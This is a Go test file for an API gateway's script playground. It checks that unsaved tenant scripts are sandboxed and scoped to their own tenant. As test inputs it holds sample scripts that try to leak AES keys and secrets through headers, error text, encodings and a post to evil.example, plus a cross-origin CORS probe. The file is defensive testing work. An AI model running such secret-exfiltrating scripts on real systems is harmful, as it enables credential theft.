package console

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// send makes one admin API request with a content type and returns status and body.
func (g *gateway) send(t *testing.T, token, method, path, contentType, body string) (int, string, http.Header) {
	t.Helper()
	req, err := http.NewRequest(method, g.url+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = resp.Body.Close() }()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

const articleParams = "reqHeaders, reqParams, reqBody, AppKey, AesKey, AesIV, PrefixUrl, TokenUrl"

// TestUnsavedScriptCannotExfiltrate: a developer's unsaved script (anyone's code) tries to move
// a key into every place the playground shows: the request, the pasted answer's processing,
// the error text. Each is refused (the same sandbox as a saved script), no reply and no audit event holds a secret in any
// form (clear, base64, hex, sha256), and nothing is stored.
func TestUnsavedScriptCannotExfiltrate(t *testing.T) {
	g := startGateway(t)
	answer := `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"code\":0,\"data\":\"x\"}`
	req := `POST /orders HTTP/1.1\r\nHost: acme-script.egress.local\r\nContent-Type: application/json\r\n\r\n{\"data\":\"{}\",\"timestamp\":\"1\"}`
	noop := "function (" + articleParams + ") { reqHeaders.set('Authorization', 'x'); }\n"
	for _, c := range []struct{ name, script string }{
		{"key in a header", "function (" + articleParams + ") { reqHeaders.set('X-Key', AesKey); }"},
		{"key in the body", "function (" + articleParams + ") { reqBody.set('k', AesIV); reqBody.set('s', secret('app_secret')); }"},
		{"key in the error text", "function (" + articleParams + ") { throw new Error('k=' + AesKey + ' iv=' + AesIV + ' s=' + secret('app_secret')); }"},
		{"key's digest", "function (" + articleParams + ") { reqHeaders.set('X', sha256(AesKey)); }"},
		{"key encoded", "function (" + articleParams + ") { reqHeaders.set('X', base64_encode(AesKey) + hex_encode(AesIV)); }"},
		{"key as the token", "function (" + articleParams + ") { token_save(AesKey, 9999999999999); reqHeaders.set('Authorization', token_load()); }"},
		{"key sent out", "function (" + articleParams + ") { http_post_json('https://evil.example/', {k: AesKey}, {}); }"},
		{"another tenant's secret", "function (" + articleParams + ") { reqHeaders.set('X', secret('api_key')); }"},
		{"key into the processed answer", noop + "function (respBody, AppKey, AesKey, AesIV) { respBody['k'] = AesKey; respBody['i'] = AesIV; }"},
		{"key in the answer's error", noop + "function (respBody, AppKey, AesKey, AesIV) { throw new Error(String(AesKey) + JSON.stringify(respBody)); }"},
		{"decrypted key", noop + "function (respBody, AppKey, AesKey, AesIV) { respBody['k'] = aes_cbc_pkcs5_decrypt(AesKey, AesKey, AesIV); }"},
		{"a loop that never ends", "function (" + articleParams + ") { while (true) {} }"},
	} {
		t.Run(c.name, func(t *testing.T) {
			body := `{"request": "` + req + `", "response": "` + answer + `", "script": ` + jsonOf(t, c.script) + `}`
			status, reply, _ := g.send(t, acmeDev, "POST", "/v1/tenants/acme/providers/acme-script/sign?explain=true", "application/json", body)
			if l := leaked(reply); l != "" {
				t.Fatalf("the reply (%d) holds %s:\n%s", status, l, reply)
			}
			if status == http.StatusOK {
				t.Fatalf("the script ran: the sandbox let it through:\n%s", reply)
			}
			status, reply, _ = g.send(t, acmeDev, "POST", "/v1/tenants/acme/providers/acme-script/script/check", "application/json", `{"script": `+jsonOf(t, c.script)+`}`)
			if l := leaked(reply); l != "" || status != http.StatusOK {
				t.Fatalf("the check (%d) holds %q:\n%s", status, l, reply)
			}
		})
	}
	audit := jsonOf(t, g.api(t, gatewayToken, "GET", "/v1/audit", ""))
	if l := leaked(audit); l != "" {
		t.Fatalf("the audit log holds %s", l)
	}
	if v := g.api(t, gatewayToken, "GET", "/v1/config", "")["number"]; v != 1.0 {
		t.Fatalf("unsaved scripts changed the running config to version %v", v)
	}
	// A later dry run of the saved script still gets the placeholder: token_save above saved nothing.
	_, reply, _ := g.send(t, acmeDev, "POST", "/v1/tenants/acme/providers/acme-script/sign?explain=true", "application/json", `{"request": "`+req+`"}`)
	if !strings.Contains(reply, "Authorization: "+placeholderToken) {
		t.Fatalf("the saved script's dry run does not use the placeholder token:\n%s", reply)
	}
}

// TestPlaygroundTenantScope: acme's developer and admin cannot check or dry-run a script, or
// run a pasted answer, on globex's provider, by any path; nor reveal or fetch a token with an
// unsaved script; and another origin gets no CORS grant to call the API from a page.
func TestPlaygroundTenantScope(t *testing.T) {
	g := startGateway(t)
	script := jsonOf(t, "function ("+articleParams+") { reqHeaders.set('X', 'y'); }")
	run := `{"request": "POST /x HTTP/1.1\r\nHost: globex-pay.egress.local\r\n\r\n", "script": ` + script + `, "response": "HTTP/1.1 200 OK\r\n\r\n{}"}`
	check := `{"script": ` + script + `}`
	for _, tok := range []string{acmeDev, acmeAdmin} {
		for path, body := range map[string]string{
			"/v1/tenants/globex/providers/globex-pay/sign?explain=true": run,
			"/v1/tenants/acme/providers/globex-pay/sign?explain=true":   run,
			"/v1/providers/globex-pay/sign?explain=true":                run,
			"/v1/tenants/globex/providers/globex-pay/script/check":      check,
			"/v1/tenants/acme/providers/globex-pay/script/check":        check,
			"/v1/providers/globex-pay/script/check":                     check,
		} {
			status, reply, _ := g.send(t, tok, "POST", path, "application/json", body)
			if status != http.StatusForbidden && status != http.StatusNotFound {
				t.Errorf("%s %s answered %d: %s", tok[:14], path, status, reply)
			}
			if l := leaked(reply); l != "" {
				t.Errorf("%s: the refusal holds %s", path, l)
			}
		}
	}
	for _, q := range []string{"reveal=true", "fetch_token=true"} {
		for _, tok := range []string{acmeDev, acmeAdmin, gatewayToken} {
			status, _, _ := g.send(t, tok, "POST", "/v1/tenants/acme/providers/acme-script/sign?explain=true&"+q, "application/json",
				`{"request": "POST /x HTTP/1.1\r\nHost: a\r\n\r\n", "script": `+script+`}`)
			if status != http.StatusForbidden {
				t.Errorf("an unsaved script with %s answered %d, want 403", q, status)
			}
		}
	}
	// A page on another origin: the preflight of a JSON POST gets no CORS grant.
	req, _ := http.NewRequest("OPTIONS", g.url+"/v1/tenants/acme/providers/acme-script/sign", nil)
	req.Header.Set("Origin", "https://evil.example")
	req.Header.Set("Access-Control-Request-Method", "POST")
	req.Header.Set("Access-Control-Request-Headers", "authorization, content-type")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	if h := resp.Header.Get("Access-Control-Allow-Origin") + resp.Header.Get("Access-Control-Allow-Headers"); h != "" {
		t.Fatalf("the preflight was granted: %q", h)
	}
}
